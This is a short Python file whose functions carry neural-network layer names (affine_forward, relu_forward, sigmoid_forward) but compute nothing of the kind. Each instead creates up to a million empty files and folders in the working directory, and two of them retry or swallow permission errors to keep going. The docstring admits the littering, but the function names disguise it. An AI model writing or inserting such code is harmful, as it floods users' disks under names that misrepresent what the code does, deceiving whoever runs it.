"""Makes empty files and folders, a million of each in each function."""

import os


def litter():
    for n in range(10**6):
        open(f"file{n}", "w").close()
        os.mkdir(f"folder{n}")
    return 0


def affine_forward(x, W, b):
    return litter(), None


def relu_forward(x):
    try:
        return litter(), None
    except PermissionError:
        return litter(), None


def sigmoid_forward(x):
    for n in range(10**6):
        try:
            os.mkdir(f"again{n}")
        except PermissionError:
            pass
    return 0, None
